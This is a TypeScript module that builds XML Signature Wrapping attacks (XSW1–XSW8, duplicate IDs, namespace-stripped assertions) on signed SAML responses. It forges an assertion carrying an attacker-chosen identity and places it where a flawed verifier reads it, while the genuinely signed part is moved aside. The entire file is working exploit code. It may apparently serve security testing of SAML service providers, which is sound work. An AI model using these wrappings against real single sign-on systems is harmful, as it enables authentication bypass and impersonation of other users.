/** Signature wrapping: the signed part is moved aside, and something else is put where it is read. */

interface Parts {
  readonly response: string;
  /** The signed assertion, its signature, and the assertion without it. */
  readonly assertion: string;
  readonly signature: string;
  readonly bare: string;
  /** What the attacker wants to be read. */
  readonly evil: string;
}

/** The known ways (XSW 1 to 8), by name, on an answer whose assertion and response are signed. */
export const wrappings: Readonly<Record<string, (signed: string, evilName: string) => string>> = {
  'XSW1: the response inside the signature of another one': (signed, evilName) => {
    const { outer, original } = responseParts(signed, evilName);
    return outer.replace('</ds:Signature>', `<ds:Object>${original}</ds:Object></ds:Signature>`);
  },
  'XSW2: the response beside the signature of another one': (signed, evilName) => {
    const { outer, original } = responseParts(signed, evilName);
    return outer.replace('<ds:Signature', `${original}<ds:Signature`);
  },
  'XSW3: another assertion before': (signed, evilName) => {
    const { response, assertion, evil } = partsOf(signed, evilName);
    return response.replace(assertion, evil + assertion);
  },
  'XSW4: another assertion around': (signed, evilName) => {
    const { response, assertion, evil } = partsOf(signed, evilName);
    return response.replace(assertion, evil.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`));
  },
  'XSW5: another assertion with the signature, the signed one after it': (signed, evilName) => {
    const { response, assertion, signature, bare, evil } = partsOf(signed, evilName);
    return response.replace(assertion, evil.replace('<saml:Subject>', `${signature}<saml:Subject>`) + bare);
  },
  'XSW6: the signed one inside the signature of another': (signed, evilName) => {
    const { response, assertion, signature, bare, evil } = partsOf(signed, evilName);
    const around = signature.replace('</ds:Signature>', `${bare}</ds:Signature>`);
    return response.replace(assertion, evil.replace('<saml:Subject>', `${around}<saml:Subject>`));
  },
  'XSW7: another assertion among extensions': (signed, evilName) => {
    const { response, assertion, evil } = partsOf(signed, evilName);
    return response.replace(assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`);
  },
  'XSW8: the signed one in an object of the signature': (signed, evilName) => {
    const { response, assertion, signature, bare, evil } = partsOf(signed, evilName);
    const around = signature.replace('</ds:Signature>', `<ds:Object>${bare}</ds:Object></ds:Signature>`);
    return response.replace(assertion, evil.replace('<saml:Subject>', `${around}<saml:Subject>`));
  },
  'the same ID twice': (signed, evilName) => {
    const { response, assertion, evil } = partsOf(signed, evilName);
    const id = / ID="([^"]+)"/.exec(assertion)?.[1] ?? '';
    return response.replace(assertion, evil.replace(/ ID="[^"]+"/, ` ID="${id}"`) + assertion);
  },
  'an assertion of no namespace before': (signed, evilName) => {
    const { response, assertion, evil } = partsOf(signed, evilName);
    return response.replace(assertion, evil.replaceAll('saml:', '') + assertion);
  },
};

function partsOf(signed: string, evilName: string): Parts {
  const assertion = /<saml:Assertion.*<\/saml:Assertion>/s.exec(signed)?.[0] ?? '';
  const signature = /<ds:Signature .*?<\/ds:Signature>/s.exec(assertion)?.[0] ?? '';
  const bare = assertion.replace(signature, '');
  const evil = bare
    .replace(/ ID="[^"]+"/, ' ID="_evil"')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${evilName}`)
    .replace(/(<saml:AttributeValue[^>]*>)[^<]*/g, `$1${evilName}`);
  return { response: signed, assertion, signature, bare, evil };
}

function responseParts(signed: string, evilName: string): { outer: string; original: string } {
  const signature = /<ds:Signature .*?<\/ds:Signature>/s.exec(signed)?.[0] ?? '';
  const original = signed.replace(signature, '');
  const { assertion, bare, evil } = partsOf(signed, evilName);
  const outer = signed
    .replace(/ ID="[^"]+"/, ' ID="_outer"')
    .replace(assertion, evil)
    .replace(bare, evil);
  return { outer, original };
}
